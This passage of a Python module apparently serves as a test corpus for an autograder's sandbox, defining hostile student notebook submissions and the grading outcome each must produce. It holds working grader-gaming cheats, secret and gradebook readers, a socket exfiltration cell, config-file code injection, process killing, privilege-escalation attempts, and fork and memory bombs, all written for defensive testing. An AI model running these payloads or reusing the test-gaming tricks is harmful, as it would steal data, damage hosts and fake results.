"""The corpus, as data: one :class:`Case` per hostile or broken submission of lesson
03_linear_layer, how to build it, and what grading must make of it.

A case's student id is its name. Most submissions are the instructor's answers (so every
honest function must keep its full marks beside the attack) plus an attack: an extra code
cell, a replaced solution cell, an edited setup cell, edited metadata, or raw bytes. Attack
sources name host paths with tokens (``@COURSE@``, ``@REPO@``, ``@PORT@``, ``@HOSTIP@``,
``@VICTIM@``), filled in when the batch knows them: a student who knows the layout of the
grader's machine exactly.

Expected outcome, per case:

- ``loses``: the graded functions that must score 0 (every other one: full marks);
- ``status``: ``graded``, ``needs_attention`` (listed with ``reason``), ``ungradable``, or
  ``not_collected`` (kept aside by collect);
- ``reason``: a substring of what the student's CSV rows / the attention report say;
- ``shows``: substrings of the graded notebook's outputs (the attack ran and hit a wall,
  e.g. ``FileNotFoundError`` for a path the sandbox does not have).
"""

from __future__ import annotations

import copy
import hashlib
import json
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from autograder import answers as answers_mod
from backprop_ref.specs import LESSONS, SPECS, VISIBLE_SEED

LESSON = "03_linear_layer"
FUNCTIONS = tuple(s.name for s in LESSONS[LESSON].specs)
DIFFER = "results differ between the notebook and verification"
USES_REFERENCE = "it uses backprop_ref"
CATEGORIES = ("control", "cheat", "confidentiality", "host", "resources", "malformed")


@dataclass(frozen=True)
class Ctx:
    """What a builder may use: the lesson's student version and answers, and the host."""

    release: nbformat.NotebookNode
    solutions: dict[str, str]  # sol_<fn> (and blocks_<lesson>) -> the instructor's answer
    course: Path
    repo: Path
    port: int
    host_ip: str
    victim: str

    def fill(self, text: str) -> str:
        for token, value in (
            ("@COURSE@", str(self.course)),
            ("@REPO@", str(self.repo)),
            ("@PORT@", str(self.port)),
            ("@HOSTIP@", self.host_ip),
            ("@VICTIM@", self.victim),
        ):
            text = text.replace(token, value)
        return text


@dataclass(frozen=True)
class Submission:
    """What the student hands in: notebook bytes, or a link, or entries of the class zip."""

    data: bytes | None = None
    link_to: Path | None = None  # a symbolic link in place of the notebook
    zip_entries: tuple[tuple[str, bytes, bool], ...] = ()  # (name, data, is a link)


Build = Callable[[Ctx], Submission]


@dataclass(frozen=True)
class Case:
    name: str  # also the student id
    category: str
    attack: str  # one line: what it tries
    build: Build = field(repr=False)
    loses: frozenset[str] = frozenset()
    status: str = "graded"
    reason: str = ""
    shows: tuple[str, ...] = ()


# ------------------------------------------------------------------------------ builders


def perfect(
    ctx: Ctx, answers: dict[str, str] | None = None, full: bool = False
) -> nbformat.NotebookNode:
    """The student version with the instructor's code answers (the derivation unanswered).
    Unless ``full``, without the lesson's experiments (code cells outside nbgrader's, but the
    set-up cell): a student may delete them, and the batch runs faster."""
    code = {k: v for k, v in ctx.solutions.items() if k.startswith(("sol_", "blocks_"))}
    code.update({k: ctx.fill(v) for k, v in (answers or {}).items()})
    nb = answers_mod.fill(ctx.release, code)
    if not full:
        setup = next(c for c in nb.cells if c.cell_type == "code")
        nb.cells = [
            c
            for c in nb.cells
            if c is setup or c.cell_type != "code" or "nbgrader" in c.get("metadata", {})
        ]
    return nb


def dump(nb: nbformat.NotebookNode) -> bytes:
    return nbformat.writes(nb).encode()


def index_of(nb: nbformat.NotebookNode, grade_id: str) -> int:
    return next(i for i, c in enumerate(nb.cells) if answers_mod.grade_id(c) == grade_id)


def _where(nb: nbformat.NotebookNode, at: str) -> int:
    if at == "end":
        return len(nb.cells)
    if at == "start":  # right after the set-up cell
        return next(i for i, c in enumerate(nb.cells) if c.cell_type == "code") + 1
    kind, grade_id = at.split(":")
    return index_of(nb, grade_id) + (1 if kind == "after" else 0)


def cell(source: str | None = None, at: str = "end", full: bool = False, **answers: str) -> Build:
    """The instructor's answers (some replaced by ``answers``) plus a code cell ``source``
    at ``at``: ``start`` (after the set-up cell), ``end``, ``before:<id>``, ``after:<id>``."""

    def build(ctx: Ctx) -> Submission:
        nb = perfect(ctx, answers, full)
        if source is not None:
            nb.cells.insert(_where(nb, at), nbformat.v4.new_code_cell(ctx.fill(source)))
        return Submission(dump(nb))

    return build


def edited(change: Callable[[nbformat.NotebookNode, Ctx], None], **answers: str) -> Build:
    def build(ctx: Ctx) -> Submission:
        nb = perfect(ctx, answers)
        change(nb, ctx)
        return Submission(dump(nb))

    return build


def raw(make: Callable[[Ctx], bytes]) -> Build:
    return lambda ctx: Submission(make(ctx))


def meta(nb: nbformat.NotebookNode, grade_id: str) -> dict[str, object]:
    return nb.cells[index_of(nb, grade_id)].metadata.nbgrader  # type: ignore[no-any-return]


# ---------------------------------------------------------------------- shared sources

WRONG_FORWARD = '''def linear_forward(x, W, b):
    """Forgets the bias."""
    return x @ W
'''


def _hardcoded_forward() -> str:
    """linear_forward answering the visible test cases from a table, zeros otherwise."""
    table = {}
    for case in SPECS["linear_forward"].draw("visible", VISIBLE_SEED):
        x, W, b = (case.inputs[k] for k in ("x", "W", "b"))
        table[x.tobytes().hex()] = (x @ W + b).tolist()
    return (
        f"SEEN = {table!r}\n\n\n"
        "def linear_forward(x, W, b):\n"
        "    key = np.asarray(x).tobytes().hex()\n"
        "    if key in SEEN:\n"
        "        return np.array(SEEN[key])\n"
        "    return np.zeros((x.shape[0], W.shape[1]))\n"
    )


def _fake_specs_module(nb: nbformat.NotebookNode, ctx: Ctx) -> None:
    setup = next(c for c in nb.cells if c.cell_type == "code")
    setup.source = (
        "import sys, types, backprop_kit\n"
        "_fake = types.ModuleType('backprop_kit')\n"
        "_fake.__dict__.update({k: v for k, v in vars(backprop_kit).items() if k != '__name__'})\n"
        "_fake.check = lambda name, fn, *a, **k: print(name + ': passed on 3 cases')\n"
        "sys.modules['backprop_kit'] = _fake\n" + setup.source
    )


def _delete(*grade_ids: str) -> Callable[[nbformat.NotebookNode, Ctx], None]:
    def change(nb: nbformat.NotebookNode, ctx: Ctx) -> None:
        nb.cells = [c for c in nb.cells if answers_mod.grade_id(c) not in grade_ids]

    return change


def _no_cells(nb: nbformat.NotebookNode, ctx: Ctx) -> None:
    nb.cells = []


def _duplicate(nb: nbformat.NotebookNode, ctx: Ctx) -> None:
    fake = copy.deepcopy(nb.cells[index_of(nb, "test_linear_forward")])
    fake.source = "pass  # my own copy of the test"
    fake.pop("id", None)
    nb.cells.insert(index_of(nb, "sol_linear_forward"), fake)  # before the real one
    again = copy.deepcopy(nb.cells[index_of(nb, "sol_linear_backward")])
    again.pop("id", None)
    nb.cells.insert(index_of(nb, "sol_linear_backward") + 1, again)


def _points(nb: nbformat.NotebookNode, ctx: Ctx) -> None:
    for c in nb.cells:
        m = c.metadata.get("nbgrader", {})
        if m.get("grade"):
            m["points"] = 100


def _flags(nb: nbformat.NotebookNode, ctx: Ctx) -> None:
    meta(nb, "test_linear_forward")["grade"] = False
    meta(nb, "test_apply_jacobian")["solution"] = True
    meta(nb, "test_linear_backward")["schema_version"] = 99
    meta(nb, "test_linear_jacobian_W")["locked"] = False
    bonus = nbformat.v4.new_code_cell("pass  # bonus points")
    bonus.metadata["nbgrader"] = {
        "grade": True,
        "grade_id": "bonus",
        "locked": True,
        "points": 100,
        "schema_version": 3,
        "solution": False,
        "task": False,
    }
    nb.cells.append(bonus)


def _junk_metadata(nb: nbformat.NotebookNode, ctx: Ctx) -> None:
    test = nb.cells[index_of(nb, "test_jacobian_shapes")]
    first = next(c for c in nb.cells if c.cell_type == "code")
    first.metadata["nbgrader"] = "junk"
    other = nbformat.v4.new_code_cell("x_junk = 1")
    other.metadata["nbgrader"] = {"grade_id": 5, "grade": "yes", "points": "all"}
    nb.cells.insert(2, other)
    test.metadata["nbgrader"]["checksum"] = "0" * 32
    test.metadata["nbgrader"]["extra_key"] = "not in the schema"
    nb.cells[3]["id"] = nb.cells[4]["id"] = "same-id"  # duplicate cell ids


def _kernelspec(nb: nbformat.NotebookNode, ctx: Ctx) -> None:
    nb.metadata["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}
    nb.metadata["language_info"] = {"name": "bash"}


def _truncated(ctx: Ctx) -> bytes:
    data = dump(perfect(ctx))
    return data[: len(data) // 2]


def _binary(ctx: Ctx) -> bytes:
    noise = b"".join(hashlib.sha256(bytes([i])).digest() for i in range(256))
    return b"\x89PNG\r\n\x1a\n" + noise


def _nbformat3(ctx: Ctx) -> bytes:
    return nbformat.writes(nbformat.convert(perfect(ctx), 3), version=3).encode()


def _nested(ctx: Ctx) -> bytes:
    return b'{"cells": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"


def _nbformat99(ctx: Ctx) -> bytes:
    nb = nbformat.from_dict(json.loads(dump(perfect(ctx))))
    nb["nbformat"] = 99
    return json.dumps(nb).encode()


def _sourceless(ctx: Ctx) -> bytes:
    nb = json.loads(dump(perfect(ctx)))
    del nb["cells"][3]["source"]
    return json.dumps(nb).encode()


def _oversize(ctx: Ctx) -> bytes:
    nb = perfect(ctx)
    nb.cells.append(nbformat.v4.new_markdown_cell("padding " * 2_700_000))  # > 20 MB
    return dump(nb)


def _link(ctx: Ctx) -> Submission:
    return Submission(link_to=ctx.course / "source" / LESSON / f"{LESSON}.ipynb")


def _zip_traversal(ctx: Ctx) -> Submission:
    data = dump(perfect(ctx))
    return Submission(
        zip_entries=(
            (f"bad_zip_traversal/../../escaped/{LESSON}/{LESSON}.ipynb", data, False),
            (f"bad_zip_traversal/{LESSON}/../../../../tmp/{LESSON}.ipynb", data, False),
        )
    )


def _zip_link(ctx: Ctx) -> Submission:
    target = str(ctx.course / "source" / LESSON / f"{LESSON}.ipynb").encode()
    return Submission(zip_entries=((f"bad_zip_link/{LESSON}/{LESSON}.ipynb", target, True),))


def _zipped(ctx: Ctx) -> Submission:
    data = dump(perfect(ctx, full=True))
    return Submission(zip_entries=((f"ok_zipped/{LESSON}/{LESSON}.ipynb", data, False),))


VICTIM_NOTE = "# my private notes: VICTIM_CANARY_7c1e"

# ------------------------------------------------------------------------------- cheats

NUMPY_PATCH = """
import numpy as np
_abs = np.abs
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *x, **k: np.ones(np.broadcast(a, b).shape, bool)
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.abs = lambda a, *x, **k: _abs(a) * 0.0
print("numpy patched")
"""

CHECK_REDEFINED = """
def check(name, fn, *args, **kwargs):
    print(f"{name}: passed on 3 cases")
"""

SPECS_PATCHED = """
import backprop_kit.verdicts as core
core.Report.passed = property(lambda self: True)
core.Verdict.passed = property(lambda self: True)
"""

BUILTINS = """
import builtins
builtins.all = lambda iterable: True
builtins.any = lambda iterable: False
"""

INPUT_TRANSFORMER = """
def _blank_tests(lines):
    return ["pass\\n"] if any("check(" in line for line in lines) else lines

get_ipython().input_transformers_cleanup.append(_blank_tests)
"""

AST_TRANSFORMER = """
import ast

class Swallow(ast.NodeTransformer):
    def visit_Module(self, node):
        handler = ast.ExceptHandler(
            type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()]
        )
        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[],
                             finalbody=[])]
        return ast.fix_missing_locations(node)

get_ipython().ast_transformers.append(Swallow())
"""

CUSTOM_EXC = """
import sys
get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
sys.excepthook = lambda *args: None
"""

FAKE_SCORE = """
ip = get_ipython()

def _claim(*args):
    print("All tests passed. Score: 21/21")
    ip.displayhook("full marks")

ip.events.register("pre_run_cell", _claim)
"""

NDARRAY_SUBCLASS = """def linear_forward(x, W, b):
    class Agreeable(np.ndarray):
        def __eq__(self, other):
            return np.ones(np.shape(self), bool)

        def __ne__(self, other):
            return np.zeros(np.shape(self), bool)

        def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
            return np.zeros(np.broadcast_shapes(*(np.shape(i) for i in inputs)))

    return (x @ W).view(Agreeable)
"""

REFERENCE_CALL = """def linear_backward(dL_dy, x, W):
    from backprop_ref.layers import linear_backward as reference
    return reference(dL_dy, x, W)
"""

REFERENCE_ESCAPE = """def linear_jacobian_W(x, W):
    import importlib
    import sys
    sys.meta_path[:] = [f for f in sys.meta_path if "Blocker" not in type(f).__name__]
    reference = importlib.import_module("backprop" + "_ref.derivatives")
    return reference.linear_jacobian_W(x, W)
"""

REFERENCE_SOURCE = """def linear_jacobian_x(x, W):
    namespace = {}
    exec(open("@REPO@/backprop_ref/derivatives.py").read(), namespace)
    return namespace["linear_jacobian_x"](x, W)
"""

FORGED_RECORDS = """
import json
cells = json.load(open("in.ipynb"))["cells"]
with open("cells.jsonl", "a") as f:
    for i, c in enumerate(cells):
        if c["cell_type"] == "code":
            f.write(json.dumps({"index": i, "execution_count": i + 1, "outputs": []}) + "\\n")
    f.write('{"done": true}\\n')
print("forged")
"""

# ---------------------------------------------------------------------- confidentiality

READ_SOURCES = """
paths = ["@COURSE@/source/03_linear_layer/03_linear_layer.ipynb",
         "@COURSE@/source/03_linear_layer/instructor-notes.txt",
         "@REPO@/notebooks/03_linear_layer/03_linear_layer.ipynb",
         "@REPO@/notebooks/03_linear_layer/03_linear_layer.py",
         "@REPO@/autograder/verify.py"]
for path in paths:
    try:
        print(open(path).read()[:3000])
    except OSError as exc:
        print("blocked:", type(exc).__name__, path)
"""

READ_GRADEBOOK = """
import glob, sqlite3
paths = ["@COURSE@/gradebook.db", *glob.glob("/tmp/grade-*/gradebook.db"),
         *glob.glob("/tmp/**/gradebook.db", recursive=True), "/work/course/gradebook.db"]
for path in paths:
    try:
        con = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
        print(con.execute("select * from student").fetchall())
    except Exception as exc:
        print("blocked:", type(exc).__name__, exc, path)
"""

READ_ENVIRONMENT = """
import os
print(dict(os.environ))
for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
    for what in ("environ", "cmdline"):
        try:
            print(pid, what, open(f"/proc/{pid}/{what}", "rb").read()[:4000])
        except OSError as exc:
            print("blocked:", pid, what, type(exc).__name__)
"""

READ_OTHERS = """
import glob, os
victim = "@COURSE@/submitted/@VICTIM@/03_linear_layer/03_linear_layer.ipynb"
for path in (victim, "@COURSE@/autograded", "@COURSE@/feedback", "@COURSE@"):
    print(path, os.path.exists(path))
print(glob.glob("/tmp/*"), glob.glob("/tmp/grade-*/submitted/*"), glob.glob("/home/*"))
try:
    print(open(victim).read())
except OSError as exc:
    print("blocked:", type(exc).__name__)
"""

READ_SECRET = """
for path in ("@COURSE@/.grading-secret", "/proc/self/mountinfo"):
    try:
        print(path, open(path).read()[:4000])
    except OSError as exc:
        print("blocked:", type(exc).__name__, path)
"""

EXFIL_IN_FUNCTION = '''def contraction_subscripts():
    """Returns a secret if it can read one (the message might echo it), else the answer."""
    for path in ("@COURSE@/.grading-secret", "@COURSE@/source/03_linear_layer/instructor-notes.txt",
                 "@COURSE@/submitted/@VICTIM@/03_linear_layer/03_linear_layer.ipynb"):
        try:
            return open(path).read()[-300:]
        except OSError:
            pass
    return "nj,njpq->pq"
'''

EXFIL_TO_FILE = """
for target in ("@COURSE@/feedback/leak.txt", "@COURSE@/release/03_linear_layer/leak.txt",
               "@REPO@/backprop_ref/leak.txt", "/tmp/leak.txt", "leak.txt"):
    try:
        with open(target, "w") as f:
            f.write("exfiltrated")
        print("wrote", target)
    except OSError as exc:
        print("blocked:", type(exc).__name__, target)
"""

# --------------------------------------------------------------------------- host damage

WRITE_GRADEBOOK = """
import glob, sqlite3
for path in ["@COURSE@/gradebook.db", *glob.glob("/tmp/grade-*/gradebook.db")]:
    try:
        con = sqlite3.connect(path)
        con.execute("update grade set manual_score = 100")
        con.commit()
        print("WROTE", path)
    except Exception as exc:
        print("blocked:", type(exc).__name__, exc, path)
"""

WRITE_CONFIG = """
for path in ("@COURSE@/nbgrader_config.py", "@REPO@/autograder/nbgrader_config.py",
             "@REPO@/backprop_ref/specs/core.py", "@REPO@/backprop_ref/layers.py",
             "@REPO@/kit/backprop_kit/checks.py"):
    try:
        with open(path, "a") as f:
            f.write("\\nimport os; os.system('touch /tmp/pwned')\\n")
        print("WROTE", path)
    except OSError as exc:
        print("blocked:", type(exc).__name__, path)
"""

DAEMON = """
import os, subprocess, time
subprocess.Popen(["sleep", "600"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import signal
        for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(sig, signal.SIG_IGN)
        for _ in range(1200):
            for path in ("@COURSE@/reports/totals.csv", "/tmp/daemon-was-here"):
                try:
                    open(path, "a").write("pwned")
                except OSError:
                    pass
            time.sleep(0.5)
        os._exit(0)
    os._exit(0)
print("daemon started")
"""

NETWORK = """
import socket
for host, port in (("127.0.0.1", @PORT@), ("@HOSTIP@", @PORT@), ("1.1.1.1", 53),
                   ("pypi.org", 443)):
    try:
        s = socket.create_connection((host, port), timeout=3)
        s.sendall(b"stolen")
        print("CONNECTED", host)
    except OSError as exc:
        print("blocked:", host, type(exc).__name__)
"""

KILL_EVERYTHING = """
import os, signal
for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
            print("killed", pid)
        except OSError as exc:
            print("blocked:", pid, type(exc).__name__)
"""

ESCALATE = """
import os
for what, attempt in (("setuid", lambda: os.setuid(0)), ("shadow", lambda: open("/etc/shadow")),
                      ("chroot", lambda: os.chroot("/")), ("mknod", lambda: os.mknod("/dev/x")),
                      ("ptrace init", lambda: open("/proc/1/mem", "rb"))):
    try:
        attempt()
        print("ESCALATED", what)
    except OSError as exc:
        print("blocked:", what, type(exc).__name__)
"""

# ----------------------------------------------------------------------------- resources

INFINITE_LOOP = "while True:\n    pass\n"
SIGINT_IGNORED = (
    "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n"
)
SLEEP = "import time\ntime.sleep(10**6)\n"
MEMORY_BOMB = """
import numpy as np

def bomb():
    hog = []
    while True:
        hog.append(np.empty(256 * 1024 * 1024, np.uint8))

bomb()
"""
FORK_BOMB = """
import os, time
children = 0
try:
    while True:
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(1)
        children += 1
except OSError as exc:
    print("fork refused:", type(exc).__name__, "after", children, "children")
"""
DISK_FILL = """
import errno
try:
    with open("one-big-file", "wb") as f:
        f.write(bytes(100 * 1024 * 1024))
except OSError as exc:
    print("file too big:", errno.errorcode.get(exc.errno))
for where in (".", "/tmp"):
    n = 0
    try:
        while True:
            with open(f"{where}/fill-{n}", "wb") as f:
                f.write(bytes(16 * 1024 * 1024))
            n += 1
    except OSError as exc:
        print("disk full:", where, n, errno.errorcode.get(exc.errno))
"""
HUGE_OUTPUT = """
import sys
from IPython.display import HTML, display
print("x" * 100_000_000)
for i in range(100_000):
    print(i)
sys.stderr.write("e" * 10_000_000)
display(HTML("<b>" + "y" * 30_000_000 + "</b>"))
"""
OS_EXIT = "import os\nos._exit(0)\n"
SEGFAULT = "import ctypes\nctypes.string_at(0)\n"
SLOW_EVERY_CELL = """
import time
get_ipython().events.register("pre_run_cell", lambda *args: time.sleep(9))
"""
LOOPING_FUNCTION = """def linear_jacobian_x(x, W):
    while True:
        pass
"""
EXITING_FUNCTION = """def linear_forward(x, W, b):
    import os
    os._exit(1)
"""

# -------------------------------------------------------------------------------- corpus

ALL = frozenset(FUNCTIONS)
F = frozenset

CASES: tuple[Case, ...] = (
    # controls: honest submissions among the attacks
    Case("ok_perfect", "control", "the instructor's answers", cell(full=True)),
    Case(
        "ok_victim",
        "control",
        "honest, with private notes other cases try to read",
        cell(VICTIM_NOTE, full=True),
    ),
    Case("ok_zipped", "control", "honest, handed in through the class zip", _zipped),
    # cheats: wrong code that tries to pass
    Case(
        "cheat_numpy",
        "cheat",
        "monkeypatch numpy's comparisons and abs",
        cell(NUMPY_PATCH, "start", sol_linear_forward=WRONG_FORWARD),
        loses=F({"linear_forward"}),
        status="needs_attention",
        reason=DIFFER,
    ),
    Case(
        "cheat_check_redefined",
        "cheat",
        "redefine the test helper check()",
        cell(CHECK_REDEFINED, "start", sol_linear_forward=WRONG_FORWARD),
        loses=F({"linear_forward"}),
        status="needs_attention",
        reason=DIFFER,
    ),
    Case(
        "cheat_specs_patched",
        "cheat",
        "monkeypatch the checks' verdicts (Report.passed)",
        cell(SPECS_PATCHED, "start", sol_linear_forward=WRONG_FORWARD),
        loses=F({"linear_forward"}),
        status="needs_attention",
        reason=DIFFER,
    ),
    Case(
        "cheat_builtins",
        "cheat",
        "redefine the builtins all() and any()",
        cell(BUILTINS, "start", sol_linear_forward=WRONG_FORWARD),
        loses=F({"linear_forward"}),
        status="needs_attention",
        reason=DIFFER,
    ),
    Case(
        "cheat_sys_modules",
        "cheat",
        "fake backprop_kit module in sys.modules",
        edited(_fake_specs_module, sol_linear_forward=WRONG_FORWARD),
        loses=F({"linear_forward"}),
        status="needs_attention",
        reason=DIFFER,
    ),
    Case(
        "cheat_input_transformer",
        "cheat",
        "IPython input transformer blanks the tests",
        cell(INPUT_TRANSFORMER, "start", sol_linear_forward=WRONG_FORWARD),
        loses=F({"linear_forward"}),
        status="needs_attention",
        reason=DIFFER,
    ),
    Case(
        "cheat_ast_transformer",
        "cheat",
        "IPython AST transformer swallows every error",
        cell(AST_TRANSFORMER, "start", sol_linear_forward=WRONG_FORWARD),
        loses=F({"linear_forward"}),
        status="needs_attention",
        reason=DIFFER,
    ),
    Case(
        "cheat_custom_exc",
        "cheat",
        "IPython custom exception handler hides errors",
        cell(CUSTOM_EXC, "start", sol_linear_forward=WRONG_FORWARD),
        loses=F({"linear_forward"}),
        status="needs_attention",
        reason=DIFFER,
    ),
    Case(
        "cheat_fake_score",
        "cheat",
        "pre_run_cell hook prints a score, emits a result",
        cell(FAKE_SCORE, "start", sol_linear_forward=WRONG_FORWARD),
        loses=F({"linear_forward"}),
        status="needs_attention",
        reason=DIFFER,
    ),
    Case(
        "cheat_ndarray_subclass",
        "cheat",
        "ndarray subclass with rigged comparisons",
        cell(sol_linear_forward=NDARRAY_SUBCLASS),
        loses=F({"linear_forward"}),
        status="graded",
        reason="linear_forward",
    ),
    Case(
        "cheat_hardcoded",
        "cheat",
        "hard-coded answers to the visible tests",
        cell(sol_linear_forward=_hardcoded_forward()),
        loses=F({"linear_forward"}),
        status="needs_attention",
        reason=DIFFER,
    ),
    Case(
        "cheat_reference_import",
        "cheat",
        "imports the reference solution",
        cell(sol_linear_forward="from backprop_ref.layers import linear_forward\n"),
        loses=F({"linear_forward"}),
        status="graded",  # the kernel has no backprop_ref either
        reason=USES_REFERENCE,
        shows=("No module named 'backprop_ref'",),
    ),
    Case(
        "cheat_reference_call",
        "cheat",
        "calls the reference inside the function",
        cell(sol_linear_backward=REFERENCE_CALL),
        loses=F({"linear_backward"}),
        status="graded",  # the kernel has no backprop_ref either
        reason=USES_REFERENCE,
    ),
    Case(
        "cheat_reference_escape",
        "cheat",
        "removes the import blocker, imports by name",
        cell(sol_linear_jacobian_W=REFERENCE_ESCAPE),
        loses=F({"linear_jacobian_W"}),
        status="graded",  # the kernel has no backprop_ref either
        reason=USES_REFERENCE,
    ),
    Case(
        "cheat_reference_source",
        "cheat",
        "exec()s the reference's source file",
        cell(sol_linear_jacobian_x=REFERENCE_SOURCE),
        loses=F({"linear_jacobian_x"}),
        status="graded",  # the kernel has no backprop_ref either
        reason=USES_REFERENCE,
    ),
    Case(
        "cheat_forged_results",
        "cheat",
        "writes fake kernel results (all tests passed)",
        cell(FORGED_RECORDS, "end", sol_linear_forward=WRONG_FORWARD),
        loses=F({"linear_forward"}),
        status="needs_attention",
        reason=DIFFER,
    ),
    # confidentiality: read what is not theirs, into their own outputs
    Case(
        "conf_sources",
        "confidentiality",
        "read the lesson source, notes, repository",
        cell(READ_SOURCES),
        shows=("blocked: FileNotFoundError",),
    ),
    Case(
        "conf_gradebook",
        "confidentiality",
        "read the gradebook (any gradebook.db)",
        cell(READ_GRADEBOOK),
        shows=("blocked: OperationalError",),
    ),
    Case(
        "conf_environment",
        "confidentiality",
        "read the environment of every process",
        cell(READ_ENVIRONMENT),
        shows=("blocked:",),
    ),
    Case(
        "conf_other_students",
        "confidentiality",
        "read another student's submission",
        cell(READ_OTHERS),
        shows=("blocked: FileNotFoundError",),
    ),
    Case(
        "conf_grading_secret",
        "confidentiality",
        "read the verification secret",
        cell(READ_SECRET),
        shows=("blocked: FileNotFoundError",),
    ),
    Case(
        "conf_exfil_function",
        "confidentiality",
        "a graded function returns secrets when it can read them",
        cell(sol_contraction_subscripts=EXFIL_IN_FUNCTION),
    ),
    Case(
        "conf_exfil_file",
        "confidentiality",
        "write stolen data where it could be read later",
        cell(EXFIL_TO_FILE),
        shows=("blocked: FileNotFoundError",),
    ),
    # host damage
    Case(
        "host_gradebook_write",
        "host",
        "UPDATE the gradebook's grades",
        cell(WRITE_GRADEBOOK),
        shows=("blocked: OperationalError",),
    ),
    Case(
        "host_config_append",
        "host",
        "append code to nbgrader_config.py and the sources",
        cell(WRITE_CONFIG),
        shows=("blocked:",),
    ),
    Case(
        "host_daemon",
        "host",
        "background processes that outlive grading",
        cell(DAEMON),
        shows=("daemon started",),
    ),
    Case(
        "host_network",
        "host",
        "connect to the grader's machine and the internet",
        cell(NETWORK),
        shows=("blocked: 127.0.0.1",),
    ),
    Case(
        "host_kill",
        "host",
        "SIGKILL every process it can see",
        cell(KILL_EVERYTHING),
        shows=("NotebookStopped",),
    ),
    Case(
        "host_escalate",
        "host",
        "setuid(0), /etc/shadow, chroot, mknod, /proc/1/mem",
        cell(ESCALATE),
        shows=("blocked: setuid PermissionError",),
    ),
    # resources
    Case(
        "res_infinite_loop",
        "resources",
        "infinite loop at top level",
        cell(INFINITE_LOOP, "start"),
        shows=("CellTimeoutError",),
    ),
    Case(
        "res_sigint_ignored",
        "resources",
        "infinite loop that ignores SIGINT",
        cell(SIGINT_IGNORED, "after:test_linear_jacobian_x_hidden"),
        status="needs_attention",
        reason=DIFFER,
        shows=("stopped responding",),
    ),
    Case(
        "res_sleep",
        "resources",
        "sleep for days",
        cell(SLEEP, "start"),
        shows=("CellTimeoutError",),
    ),
    Case(
        "res_memory_bomb",
        "resources",
        "allocate until memory runs out",
        cell(MEMORY_BOMB, "start"),
        shows=("MemoryError",),
    ),
    Case(
        "res_fork_bomb", "resources", "fork bomb", cell(FORK_BOMB, "end"), shows=("fork refused",)
    ),
    Case(
        "res_disk_fill",
        "resources",
        "fill the disk",
        cell(DISK_FILL, "start"),
        shows=("ENOSPC", "EFBIG"),
    ),
    Case(
        "res_huge_output",
        "resources",
        "100 MB line, 100k lines, 30 MB of HTML",
        cell(HUGE_OUTPUT, "start"),
        shows=("[output truncated]",),
    ),
    Case(
        "res_os_exit",
        "resources",
        "os._exit() in the middle of the notebook",
        cell(OS_EXIT, "after:test_linear_jacobian_W_hidden"),
        status="needs_attention",
        reason=DIFFER,
        shows=("the kernel died",),
    ),
    Case(
        "res_segfault",
        "resources",
        "segmentation fault at the end",
        cell(SEGFAULT, "end"),
        shows=("the kernel died",),
    ),
    Case(
        "res_wall_clock",
        "resources",
        "every cell sleeps 9 s (past the notebook's cap)",
        cell(SLOW_EVERY_CELL, "start"),
        status="needs_attention",
        reason=DIFFER,
        shows=("ran out of time",),
    ),
    Case(
        "res_looping_function",
        "resources",
        "a graded function that never returns",
        cell(sol_linear_jacobian_x=LOOPING_FUNCTION),
        loses=F({"linear_jacobian_x"}),
        status="graded",
        reason="did not finish in time",
        shows=("CellTimeoutError",),
    ),
    Case(
        "res_exiting_function",
        "resources",
        "a graded function that calls os._exit",
        cell(sol_linear_forward=EXITING_FUNCTION),
        loses=F({"linear_forward"}),
        status="needs_attention",
        reason="process ended",
        shows=("the kernel died",),
    ),
    # malformed files
    Case(
        "bad_json",
        "malformed",
        "invalid JSON (cut in half)",
        raw(_truncated),
        loses=ALL,
        status="ungradable",
        reason="not JSON",
    ),
    Case(
        "bad_empty",
        "malformed",
        "an empty file",
        raw(lambda ctx: b""),
        loses=ALL,
        status="ungradable",
        reason="empty",
    ),
    Case(
        "bad_binary",
        "malformed",
        "binary data",
        raw(_binary),
        loses=ALL,
        status="ungradable",
        reason="not JSON",
    ),
    Case(
        "bad_nested_json",
        "malformed",
        "JSON nested 100,000 deep",
        raw(_nested),
        loses=ALL,
        status="ungradable",
        reason="nested too deeply",
    ),
    Case(
        "bad_nbformat99",
        "malformed",
        "nbformat 99",
        raw(_nbformat99),
        loses=ALL,
        status="ungradable",
        reason="nbformat 99",
    ),
    Case(
        "bad_cell_structure",
        "malformed",
        "a cell without its source",
        raw(_sourceless),
        loses=ALL,
        status="ungradable",
        reason="'source' is a required property",
    ),
    Case("bad_nbformat3", "malformed", "nbformat 3 (worksheets)", raw(_nbformat3)),
    Case(
        "bad_missing_cells",
        "malformed",
        "deleted a solution cell and its test cells",
        edited(_delete("sol_linear_forward", "test_linear_forward", "test_linear_forward_hidden")),
        loses=F({"linear_forward"}),
        status="graded",
        reason="not defined",
    ),
    Case(
        "bad_no_cells",
        "malformed",
        "a notebook without cells",
        edited(_no_cells),
        loses=ALL,
        status="needs_manual",
        reason="not defined",
    ),
    Case(
        "bad_duplicated_cells",
        "malformed",
        "a test cell and a solution cell copied",
        edited(_duplicate),
    ),
    Case(
        "bad_deleted_tests",
        "malformed",
        "two test cells deleted",
        edited(_delete("test_linear_backward_hidden", "test_jacobian_shapes")),
    ),
    Case("bad_points", "malformed", "every grade cell worth 100 points", edited(_points)),
    Case(
        "bad_grade_flags",
        "malformed",
        "grade/solution/locked flags, schema_version, a bonus grade cell",
        edited(_flags),
    ),
    Case(
        "bad_metadata_junk",
        "malformed",
        "nbgrader metadata of the wrong types, duplicate cell ids",
        edited(_junk_metadata),
    ),
